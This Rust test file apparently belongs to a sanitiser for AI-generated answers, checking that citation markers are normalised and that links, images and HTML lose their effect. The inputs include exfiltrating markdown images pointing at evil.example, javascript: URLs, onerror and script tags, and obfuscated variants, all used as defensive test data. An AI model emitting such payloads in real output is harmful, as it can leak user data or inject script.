//! What a reader may be shown, whatever a model writes and in whatever pieces it comes.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use super::*;
use crate::generation::testing::hit;

const KNOWN: &str = "https://docs.example/guide?x=1";

fn hits() -> Vec<Hit> {
    vec![
        hit("a.md", &format!("Read {KNOWN} or write to help@docs.example. Also www.docs.example.")),
        hit("b.md", "![chart](https://docs.example/chart.png) and [here](http://docs.example/b_(c))."),
        hit("c.md", "javascript:alert(1) data:text/html,x"),
    ]
}

fn shown(answer: &str) -> String {
    clean(answer, &hits()).text
}

#[test]
fn every_form_of_a_marker_becomes_one() {
    for (answer, text, numbers) in [
        ("A [1]. B [2][3].", "A [1]. B [2][3].", vec![1, 2, 3]),
        ("A [1, 2].", "A [1][2].", vec![1, 2]),
        ("A [1-3]", "A [1][2][3]", vec![1, 2, 3]),
        ("答案【1】。", "答案[1]。", vec![1]),
        ("答え［２］。", "答え[2]。", vec![2]),
        ("A [Source 1; Source 2]", "A [1][2]", vec![1, 2]),
        ("A [^3] B [来源：1]", "A [3] B [1]", vec![3, 1]),
        ("A 【2†handbook】", "A [2]", vec![2]),
        ("A [1](http://evil.example/x).", "A [1].", vec![1]),
        ("A [1](see below)", "A [1] (see below)", vec![1]),
        ("A [1, 1]", "A [1]", vec![1]),
        ("Wow![1]", "Wow! [1]", vec![1]),
        ("[1]: evil", "[1] : evil", vec![1]),
        ("It's `a` [1]", "It's `a` [1]", vec![1]),
    ] {
        let cleaned = clean(answer, &hits());
        let found: Vec<_> = cleaned.markers.iter().map(|(_, number)| *number).collect();
        assert_eq!((cleaned.text.as_str(), found, cleaned.dangling), (text, numbers, 0), "{answer}");
    }
    let cleaned = clean("年假[1]。Ok [2]", &hits());
    assert_eq!((cleaned.plain.as_str(), cleaned.markers), ("年假。Ok ", vec![(2, 1), (6, 2)]));
}

#[test]
fn markers_that_point_nowhere_go_and_are_counted() {
    let cleaned = clean("A [9]. B [0] C [2, 7].", &hits());
    assert_eq!((cleaned.text.as_str(), cleaned.dangling), ("A. B C [2].", 3));
    assert_eq!(shown("[4]"), "");
    // What a removal joins must not come alive.
    for joined in [
        "https:[9]//evil.example/x",
        "<[9]img src=x onerror=y>",
        "[a][9](javascript:x)",
        "java[9]script:alert(1)",
    ] {
        assert_inert(joined);
    }
}

#[test]
fn other_brackets_and_code_stay() {
    for text in [
        "In [2023] it was [sic] so.",
        "Use `list[1]` or\n```\nx[1] <b> https://evil.example\n```\n[",
        "[1",
        "[]",
        "[-1]",
        "[1,]",
        "a < b and c > d, R&D, 5 < 6, Vec<String> is fine",
        "Note: data:25, http or https, the www, 10:30",
        "```js\nlet a = `![x](https://evil.example)`;\n```\n\nEnd `<img src=x>`.",
    ] {
        assert_eq!(shown(text), text);
    }
}

#[test]
fn links_images_tags_and_addresses_lose_their_life() {
    for (answer, text) in [
        ("See [the guide](https://evil.example/?q=1) now.", "See the guide now."),
        ("![x](https://evil.example/p.png?d=secret)", "x"),
        ("![a [b] c](<https://evil.example/ x> \"t\")", "a [b] c"),
        (
            "![alt][ref] and [t][ref]\n\n[ref]: https://evil.example",
            "alt and [t][ref]\n\n[ref] : (link removed)",
        ),
        ("[![a](https://evil.example/i)](https://evil.example)", "a"),
        ("Go to https://evil.example/x?d=1.", "Go to (link removed)."),
        ("(HTTPS://EVIL.example)", "((link removed))"),
        ("www.evil.example/x", "(link removed)"),
        ("h\u{200B}ttps://evil.example", "(link removed)"),
        ("https&#58;//evil.example &colon;//x", "https (link removed) (link removed)"),
        ("<https://evil.example/>", "(link removed)"),
        ("<javascript:alert(1)>", "(link removed)"),
        ("javascript:alert(1)", "javascript (link removed)"),
        ("Write to spy@evil.example.", "Write to spy (at) evil.example."),
        ("a <img src=\"https://evil.example/x>\" onerror='y'> b", "a b"),
        ("Good <script>alert(1)</script>", "Good alert(1)"),
        ("x <img src=y", "x < img src=y"),
        ("a <!-- hidden --> b", "a b"),
        ("10<sup>3</sup> H<sub>2</sub>O<br>b", "10^3 H2O b"),
        ("[a](/logout) [b](page.md) [c]()", "a b c"),
        ("请看https://evil.example/秘密。", "请看(link removed)秘密。"),
    ] {
        assert_eq!(shown(answer), text, "{answer}");
        assert_inert(answer);
    }
}

#[test]
fn addresses_of_the_passages_stay_links_but_nothing_longer_and_no_image() {
    for text in [
        format!("Read {KNOWN}."),
        format!("Read [the guide]({KNOWN}) and www.docs.example, or ask help@docs.example."),
        "Read [here](http://docs.example/b_(c)).".to_owned(),
    ] {
        assert_eq!(shown(&text), text);
    }
    assert_eq!(shown(&format!("{KNOWN}&d=secret")), "(link removed)");
    assert_eq!(shown(&format!("{KNOWN}/secret")), "(link removed)");
    assert_eq!(shown(&format!("{KNOWN}秘密")), format!("{KNOWN} 秘密"));
    assert_eq!(shown(&format!("<{KNOWN}>")), KNOWN);
    assert_eq!(shown("![chart](https://docs.example/chart.png)"), "chart https://docs.example/chart.png");
    assert_eq!(shown("[x](javascript:alert(1)) data:text/html,x"), "x data (link removed)");
}

#[test]
fn code_is_no_way_around() {
    for answer in [
        "```\n![x](https://evil.example/a)",
        "> ```\n![x](https://evil.example/a)",
        "- ```\n![x](https://evil.example/a)\n",
        " ```\n```\n![x](https://evil.example/a)\n```",
        "````\n```\n````\n![x](https://evil.example/a)",
        "`aaa\n` ![x](https://evil.example/a) `",
        "\\`![x](https://evil.example/a)`",
        "| ` | ![x](https://evil.example/a) ` |\n|---|---|\n",
        "``` <img alt=\"`\">\n```\n![x](https://evil.example/a)\n```",
        "<div>\n```\n<img src=x onerror=y>\n```",
        "a\n<b>\n```\n<img src=x onerror=y>\n```",
        "```\n\u{200B}```\n![x](https://evil.example/a)",
        "~~~ `\n```\n~~~\n![x](https://evil.example/a)",
    ] {
        assert_inert(answer);
    }
    assert_eq!(shown("Code:\n```sh\nls"), "Code:\n```sh\nls\n```");
}

#[test]
fn what_takes_the_place_of_something_else_is_no_way_around() {
    for answer in [
        "[x]&#58;~~~\n[x]",
        "[x]&#40;/evil)",
        "[x]&zwj;(/evil)",
        "https:&#47;/evil.example/a",
        "!&#91;x](https://docs.example/chart.png)",
        ":![//]",
        ":![](x)//",
        "<|&#64;a>",
        "[1](x)(//evil.example)",
        "<&#97; href=x>",
        "&&#35;58;",
        "\\&#96;![x](/evil)`",
    ] {
        assert_inert(answer);
    }
    for marker in ["[&#49;]", "[1&#93;", "&#91;1]"] {
        let cleaned = clean(marker, &hits());
        assert_eq!(cleaned.text.contains("[1]"), !cleaned.markers.is_empty(), "{cleaned:?}");
    }
    assert_eq!(shown("12&#58;30 and&#x2F;or f&#40;x&#41;"), "12:30 and/or f(x)");
}

#[test]
fn words_pass_at_once() {
    let mut cleaner = Cleaner::new(&hits());
    assert_eq!(cleaner.push("Hello"), "Hello");
    assert_eq!(cleaner.push(" world."), " world.");
    assert_eq!(cleaner.push(" It is so [1"), " It is so");
    assert_eq!(cleaner.push("]."), " [1].");
    assert_eq!(cleaner.push(" \n"), "");
    assert_eq!(cleaner.finish(), "");
    let mut cleaner = Cleaner::new(&[]);
    let held = cleaner.push(&format!("[{}", "a".repeat(5_000)));
    assert!(held.len() > 4_000, "an open bracket holds the rest back");
}

#[test]
fn long_hostile_answers_take_linear_time() {
    let begun = std::time::Instant::now();
    for unit in [
        "[", "![", "[a](", "<a ", "`", "` ", "&#", "https://", "@a.", "<!--", "[1", "(", "~", "[x]: <", "\\",
        "「[",
    ] {
        let _ = shown(&unit.repeat(100_000 / unit.len()));
        let _ = shown(&format!("[a]({}", unit.repeat(20_000)));
    }
    assert!(begun.elapsed().as_secs() < 32, "{:?}", begun.elapsed());
}

#[test]
fn signs_before_an_at_are_a_mailbox_and_not_code() {
    for answer in ["<``help@C> \r\n***``> ~~~", "<=a@b.c>", "a <`x`@b.example>", "<!#@evil.example>"] {
        assert_inert(answer);
    }
    assert_eq!(shown("if a <= b and c <- d"), "if a <= b and c <- d");
}

/// Reads the text as a renderer does and finds nothing that loads, runs or leads out of the passages.
fn assert_inert(answer: &str) {
    let hits = hits();
    let cleaned = clean(answer, &hits).text;
    let allowed = Addresses::of(&hits);
    let known = |address: &str| allowed.has(&address.chars().collect::<Vec<_>>());
    let tables = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    for options in [Options::empty(), tables, tables | Options::ENABLE_FOOTNOTES] {
        let mut code = false;
        for event in Parser::new_ext(&cleaned, options) {
            match event {
                Event::Start(Tag::Image { .. }) => panic!("an image in {cleaned:?} of {answer:?}"),
                Event::Start(Tag::Link { dest_url, .. }) => {
                    assert!(known(&dest_url), "{dest_url} in {cleaned:?} of {answer:?}")
                }
                Event::Html(html) | Event::InlineHtml(html) => {
                    let word =
                        html.strip_prefix('<').and_then(|rest| rest.strip_suffix('>')).unwrap_or_default();
                    let inert = !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric());
                    assert!(inert, "{html:?} in {cleaned:?} of {answer:?}");
                }
                Event::Start(Tag::CodeBlock(_)) => code = true,
                Event::End(pulldown_cmark::TagEnd::CodeBlock) => code = false,
                Event::Text(text) if !code => {
                    for at in text.match_indices("://").map(|(at, _)| at) {
                        let start = text[..at]
                            .rfind(|c: char| !c.is_ascii_alphanumeric())
                            .map_or(0, |at| at + text[at..].chars().next().map_or(0, char::len_utf8));
                        let address =
                            text[start..].split(|c: char| c.is_whitespace()).next().unwrap_or_default();
                        let address = address
                            .trim_end_matches([')', '.', ',', '*', '_', ';', ':', '!', '?', '~', '\'']);
                        assert!(known(address), "{address:?} in {cleaned:?} of {answer:?}");
                    }
                }
                _ => {}
            }
        }
    }
}

/// Words of Markdown and of attacks, so that random answers are often nearly something.
fn answers() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "```",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "- ",
        "> ",
        "1. ",
        "# ",
        "|",
        "\\",
        "&#58;",
        "&lt;",
        "&#40;",
        "&#41;",
        "&#x2F;",
        "&#91;",
        "&rsqb;",
        "&excl;",
        "&#96;",
        "&#35;",
        "&#46;",
        "&#64;",
        "&bsol;",
        "&NewLine;",
        "&zwj;",
        "&#49;",
        "&",
        "#58;",
        ":",
        "//",
        "://",
        "https",
        "http",
        "www.",
        "evil.example",
        "/x?d=1",
        KNOWN,
        "[1]",
        "[9]",
        "【2】",
        "[1](",
        "[x]: ",
        "[x]",
        "![",
        "](",
        "<img src=x onerror=y>",
        "<b>",
        "</b>",
        "<br>",
        "<div>",
        "<!--",
        "-->",
        "\u{200B}",
        "\u{200D}",
        "\u{E0041}",
        "javascript:",
        "a",
        "data:",
        "Hello",
        "日本",
        "。",
        "'",
        "\"",
        "@",
        "docs.example",
        "help",
        "=",
        "<String>",
        "\r\n",
        "***",
        "~",
        "_",
        "``",
    ]);
    prop::collection::vec(
        prop_oneof![9 => words.prop_map(str::to_owned), 1 => any::<char>().prop_map(String::from)],
        0..40,
    )
    .prop_map(|words| words.concat())
}

proptest! {
    // More of them: PROPTEST_CASES.
    #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(3_000), ..ProptestConfig::default() })]

    #[test]
    fn any_pieces_give_the_same_text(answer in answers(), cuts in prop::collection::vec(0usize..200, 0..12)) {
        let whole = clean(&answer, &hits());
        let chars: Vec<char> = answer.chars().collect();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| cut.min(chars.len())).chain([0, chars.len()]).collect();
        cuts.sort_unstable();
        let mut cleaner = Cleaner::new(&hits());
        let mut text = String::new();
        for pair in cuts.windows(2) {
            text.push_str(&cleaner.push(&chars[pair[0]..pair[1]].iter().collect::<String>()));
        }
        text.push_str(&cleaner.finish());
        prop_assert_eq!(&text, &whole.text);
        prop_assert_eq!(text.trim(), &text);
        prop_assert_eq!((cleaner.dangling(), cleaner.neutralised()), (whole.dangling, whole.neutralised));
    }

    #[test]
    fn nothing_a_model_writes_comes_alive(answer in answers()) {
        assert_inert(&answer);
    }
}
